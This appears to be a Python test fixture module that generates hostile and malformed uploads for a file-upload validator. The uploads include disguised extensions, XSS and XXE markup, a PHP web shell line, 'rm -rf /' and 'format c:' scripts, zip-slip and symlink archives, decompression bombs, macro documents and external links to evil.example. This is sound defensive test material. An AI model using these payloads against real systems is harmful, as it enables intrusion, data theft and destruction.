"""Odd files that must be refused, or come out harmless: what attackers send, and what accidents leave."""

from __future__ import annotations

import itertools
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from io import BytesIO

from tests.files import making

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 100
#: Endings that claim to be something harmless.
HARMLESS = ("pdf", "jpg", "png", "gif", "webp", "txt", "csv", "docx", "xlsx", "zip", "mp4")

ENDINGS = (
    *("exe", "scr", "com", "bat", "cmd", "js", "vbs", "ps1", "msi", "jar", "hta", "lnk", "dll", "html"),
    *("htm", "svg", "svgz", "xhtml", "php", "jsp", "asp", "xml", "docm", "xlsm", "pptm", "reg", "sh"),
    *("py", "url", "iso", "apk", "swf", "mht"),
)


@dataclass(frozen=True)
class Odd:
    """One upload. `gone`: bytes that may be in no answer afterwards, where it is taken at all."""

    label: str
    name: str
    data: bytes
    gone: tuple[bytes, ...] = ()


def refusals() -> list[Odd]:
    """Those that must be refused."""
    return [Odd(f"{number:03} {one.label}", one.name, one.data) for number, one in enumerate(_refusals(), 1)]


def _refusals() -> Iterator[Odd]:
    yield from _disguised()
    yield from _programs()
    yield from _markup()
    yield from _polyglots()
    yield from _damaged()
    yield from _bombs()
    yield from _archives()
    yield from _documents()


def _disguised() -> Iterator[Odd]:
    """Every right file under every wrong name."""
    families = [{"txt", "csv", "tsv", "md"}, {"jpg", "jpeg"}]
    for name, data in making.right_ones().items():
        real = name.rpartition(".")[2].lower()
        same = next((family for family in families if real in family), {real})
        for said in HARMLESS:
            if said not in same and name not in ("old.txt", "excel.csv"):
                yield Odd(f"{real} as {said}", f"file.{said}", data)


def _programs() -> Iterator[Odd]:
    text = b"harmless text\n"
    for ending in ENDINGS:
        yield Odd(f"named .{ending}", f"holiday.{ending}", text)
        yield Odd(f"hidden .{ending}", f"invoice.pdf.{ending.upper()}", making.pdf())
    for inside in ("exe", "php", "html", "scr", "svg", "hta"):
        yield Odd(f"{inside} in the middle", f"photo.{inside}.jpg", making.picture("JPEG"))
    yield Odd("right to left", "photo\u202egpj.exe", text)
    yield Odd("ending behind blanks", "photo.jpg" + " " * 100 + ".exe", text)
    yield Odd("ending behind a dot", "photo.exe.", text)
    yield Odd("ending behind NUL", "photo.exe\x00", text)
    yield Odd("ending behind a folder", "../../photo.php", text)
    yield Odd("an unknown ending", "thing.xyz", text)
    yield Odd("an unknown ending of a picture", "thing.xyz", making.picture())
    headers = {
        "Windows program": EXE,
        "Linux program": b"\x7fELF\x02\x01\x01" + b"\x00" * 60,
        "Mac program": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 40,
        "Java class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 40,
        "shell script": b"#!/bin/sh\nrm -rf /\n",
        "PHP": b"<?php system($_GET['c']); ?>",
        "batch": b"@echo off\r\nformat c:\r\n",
        "shortcut": b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 40,
        "internet shortcut": b"[InternetShortcut]\r\nURL=file:///c:/x\r\n",
        "old Office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
        "RTF": b"{\\rtf1\\ansi{\\object}}",
        "cabinet": b"MSCF\x00\x00\x00\x00" + b"\x00" * 40,
        "RAR": b"Rar!\x1a\x07\x01\x00" + b"\x00" * 40,
        "7z": b"7z\xbc\xaf\x27\x1c" + b"\x00" * 40,
        "gzip": b"\x1f\x8b\x08\x00" + b"\x00" * 40,
        "Flash": b"CWS\x0a" + b"\x00" * 40,
        "SQLite": b"SQLite format 3\x00" + b"\x00" * 40,
        "WebAssembly": b"\x00asm\x01\x00\x00\x00",
        "PostScript": b"%!PS-Adobe-3.0 EPSF-3.0\n",
        "HEIC": making.video(b"heic"),
        "AVIF": making.video(b"avif"),
        "TIFF": b"II*\x00\x08\x00\x00\x00" + b"\x00" * 40,
        "BMP": b"BM\x46\x00\x00\x00\x00\x00" + b"\x00" * 40,
        "icon": b"\x00\x00\x01\x00\x01\x00" + b"\x00" * 40,
        "noise": bytes(range(256)) * 4,
    }
    for (label, data), said in itertools.product(headers.items(), ("txt", "pdf", "png", "csv")):
        yield Odd(f"{label} as {said}", f"file.{said}", data)


def _markup() -> Iterator[Odd]:
    pages = {
        "SVG": SVG,
        "SVG with a prolog": b'<?xml version="1.0"?>\n' + SVG,
        "SVG behind a comment": b"<!-- a -->" + SVG,
        "SVG behind blanks": b"\xef\xbb\xbf \t\r\n" + SVG,
        "HTML": HTML,
        "HTML in capitals": HTML.upper(),
        "HTML in UTF-16": HTML.decode().encode("utf-16"),
        "a script": b"<script>alert(1)</script>",
        "a frame": b"<iframe src=javascript:alert(1)>",
        "a picture that runs": b"<img src=x onerror=alert(1)>",
        "a page of links": b'<a href="javascript:alert(1)">x</a>',
        "a stylesheet": b"<style>@import 'http://x'</style>",
        "XML": b'<?xml version="1.0"?><a/>',
        "entities": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        "XSLT": b'<?xml version="1.0"?><xsl:stylesheet/>',
        "text before a script": b"harmless\n<script>alert(1)</script>",
    }
    for (label, data), said in itertools.product(pages.items(), ("txt", "csv", "md", "png", "pdf")):
        yield Odd(f"{label} as {said}", f"file.{said}", data)
    for ending in ("svg", "html", "xml", "xhtml"):
        yield Odd(f"a true .{ending}", f"file.{ending}", SVG if ending == "svg" else HTML)


def _polyglots() -> Iterator[Odd]:
    pdf, archive = making.pdf(), making.packed({"a.txt": "a"})
    yield Odd("PDF with a page in front", "a.pdf", b"%PDF-1.7\n" + HTML + pdf[9:])
    yield Odd("PDF with a page behind", "a.pdf", pdf + HTML)
    yield Odd("PDF with an archive behind", "a.pdf", pdf + archive)
    yield Odd("PDF with an archive inside the end", "a.pdf", pdf[:-6] + archive + pdf[-6:])
    yield Odd("page before a PDF", "a.pdf", HTML + pdf)
    yield Odd("archive with a page behind", "a.zip", archive + HTML)
    yield Odd("program before an archive", "a.zip", EXE + archive)
    yield Odd("film with a page", "a.mp4", making.video() + b"" if not HTML else making.video()[:32] + HTML)
    yield Odd("picture before an archive as archive", "a.zip", making.picture() + archive)
    yield Odd("picture before an archive as jar", "a.jar", making.animation() + archive)


def _damaged() -> Iterator[Odd]:
    yield Odd("nothing", "a.pdf", b"")
    yield Odd("nothing as text", "a.txt", b"")
    for format, ending in (("PNG", "png"), ("JPEG", "jpg"), ("GIF", "gif"), ("WEBP", "webp")):
        data = making.picture(format, (200, 200))
        yield Odd(f"{format} cut in half", f"a.{ending}", data[: len(data) // 2])
        yield Odd(f"{format}: only its head", f"a.{ending}", data[:16])
    png = making.picture()
    yield Odd("PNG with a wrong sum", "a.png", png[:30] + bytes([png[30] ^ 255]) + png[31:])
    yield Odd("PDF without its end", "a.pdf", making.pdf()[:200].replace(b"%%EOF", b""))
    yield Odd("PDF: only its head", "a.pdf", b"%PDF-1.7\n")
    archive = making.packed({"a.txt": "a" * 1000})
    yield Odd("archive cut in half", "a.zip", archive[: len(archive) // 2])
    yield Odd("archive: only its head", "a.zip", archive[:4] + b"\x00" * 60)
    yield Odd("empty archive", "a.zip", making.packed({}))
    yield Odd("text with NUL", "a.txt", b"a\x00b")
    yield Odd("text with controls", "a.csv", b"a\x01\x02b")
    yield Odd("half of UTF-16", "a.csv", b"\xff\xfea\x00\xd8\xd8x")


def png_of(width: int, height: int) -> bytes:
    """A PNG that claims a size and holds nearly nothing."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\x00" * 100_000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def _bombs() -> Iterator[Odd]:
    for width, height in (
        (50_000, 50_000),
        (1, 100_000),
        (100_000, 1),
        (7_000, 7_000),
        (2**31 - 1, 2**31 - 1),
        (0, 10),
    ):
        yield Odd(f"PNG of {width} × {height}", "a.png", png_of(width, height))
    gif = bytearray(making.picture("GIF", mode="P"))
    gif[6:10] = b"\xff\xff\xff\xff"
    yield Odd("GIF of 65,535 × 65,535", "a.gif", bytes(gif))
    yield Odd("GIF of 400 pictures", "a.gif", making.animation(400, (2, 2)))
    zeros = b"\x00" * 12_000_000
    yield Odd("archive of zeros", "a.zip", making.packed({"zeros.txt": zeros}))
    yield Odd("document of zeros", "a.docx", making.document(word__zeros_dot_xml=zeros))
    yield Odd("relations of zeros", "a.docx", making.document(word___rels__a_dot_rels=b" " * 8_000_000))
    yield Odd("archive in an archive", "a.zip", making.packed({"in.zip": making.packed({"a.txt": "a"})}))
    many = making.packed({f"{number}.txt": "" for number in range(5_001)}, zipfile.ZIP_STORED)
    yield Odd("archive of 5,001 files", "a.zip", many)
    yield Odd("archive that lies about its size", "a.zip", _lying(making.packed({"a.txt": "a" * 1000})))
    yield Odd("parts over each other", "a.zip", _overlapping())


def _lying(archive: bytes) -> bytes:
    """The directory says that the part takes more bytes than there are."""
    at = archive.rindex(b"PK\x01\x02") + 20
    return archive[:at] + struct.pack("<I", 10_000_000) + archive[at + 4 :]


def _overlapping() -> bytes:
    """Two entries of the directory that share the bytes of one."""
    archive = making.packed({"a.txt": "a" * 1000})
    start = archive.index(b"PK\x01\x02")
    end = archive.index(b"PK\x05\x06")
    entry = archive[start:end]
    both = entry + entry.replace(b"a.txt", b"b.txt")
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 2, 2, len(both), start, 0)
    return archive[:start] + both + tail


def _archives() -> Iterator[Odd]:
    for path in ("../evil.txt", "/etc/evil.txt", "..\\evil.txt", "C:\\evil.txt", "a/../../evil.txt"):
        yield Odd(f"archive that writes to {path}", "a.zip", making.packed({path: "evil"}))
    for ending in ("exe", "js", "bat", "scr", "lnk", "html", "svg", "vbs", "docm"):
        yield Odd(f"archive with .{ending}", "a.zip", making.packed({f"readme.{ending}": "x"}))
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("link.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    yield Odd("archive with a link", "a.zip", out.getvalue())
    locked = bytearray(making.packed({"a.txt": "a"}))
    locked[6] |= 1
    locked[locked.index(b"PK\x01\x02") + 8] |= 1
    yield Odd("archive with a password", "a.zip", bytes(locked))
    yield Odd("two files of one name", "a.zip", making.packed({"a.txt": "a", "A.txt": "b"}))


def _documents() -> Iterator[Odd]:
    macros = {
        "macros": {"word__vbaProject_dot_bin": b"x"},
        "macros in capitals": {"word__VBAPROJECT_dot_BIN": b"x"},
        "old macros": {"xl__macrosheets__sheet1_dot_xml": b"x"},
        "ActiveX": {"word__activeX__activeX1_dot_bin": b"x"},
    }
    for label, parts in macros.items():
        yield Odd(f"document with {label}", "a.docx", making.document(**parts))
    enabled = making.WORD.replace("document.main", "document.macroEnabled.main")
    parts = {"[Content_Types].xml": enabled, "word/document.xml": "<a/>"}
    yield Odd("document that allows macros", "a.docx", making.packed(parts))
    for kind in ("attachedTemplate", "oleObject", "frame", "subDocument"):
        relation = (
            f'<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            f'relationships/{kind}" Target="http://evil.example/x" TargetMode="External"/></Relationships>'
        )
        yield Odd(
            f"document that loads its {kind}", "a.docx", making.document(word___rels__x_dot_rels=relation)
        )
    basic = {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>", "Basic/x.xml": "x"}
    yield Odd("letter with Basic", "a.odt", making.packed(basic))
    unknown = {"mimetype": "application/x-evil", "content.xml": "<a/>"}
    yield Odd("letter of an unknown kind", "a.odt", making.packed(unknown))
    yield Odd("types and nothing else", "a.docx", making.packed({"[Content_Types].xml": making.WORD}))


def survivors() -> list[Odd]:
    """Those that may be taken, because what was wrong with them does not come out again."""
    behind = HTML + EXE
    found = []
    for format, ending in (("PNG", "png"), ("JPEG", "jpg"), ("GIF", "gif"), ("WEBP", "webp")):
        data = making.picture(format, mode="P" if format == "GIF" else "RGB")
        found.append(Odd(f"{format} with a page behind", f"a.{ending}", data + behind, (HTML, EXE)))
        found.append(
            Odd(
                f"{format} with an archive behind",
                f"b.{ending}",
                data + making.packed({"a.txt": "a"}),
                (b"PK\x03\x04",),
            )
        )
    found.append(Odd("JPEG with a script as comment", "c.jpg", making.picture("JPEG", comment=HTML), (HTML,)))
    found.append(Odd("a name that climbs", "../../../etc/cron.txt", b"text"))
    found.append(Odd("a name of Windows", "C:\\windows\\win.txt", b"text"))
    found.append(Odd("a name that turns round", "gnp\u202etxt.txt", b"text"))
    found.append(Odd("a name with line ends", "a\r\nSet-Cookie: x=1.txt", b"text"))
    found.append(Odd("a name with quotes", 'a";filename="b.html.txt', b"text"))
    found.append(Odd("a name of a device", "NUL.txt", b"text"))
    found.append(Odd("a name of 5,000 letters", "ä" * 5_000 + ".txt", b"text"))
    found.append(Odd("a name of nothing", ".txt", b"text"))
    found.append(Odd("a name of marks", "\u200b\u200e\u202e.txt", b"text"))
    found.append(Odd("a page in Markdown", "a.md", b"# Title\n\n<b onclick=alert(1)>x</b>\n"))
    found.append(Odd("formulas in CSV", "a.csv", b"=1+1,@SUM(A1)\n"))
    return found
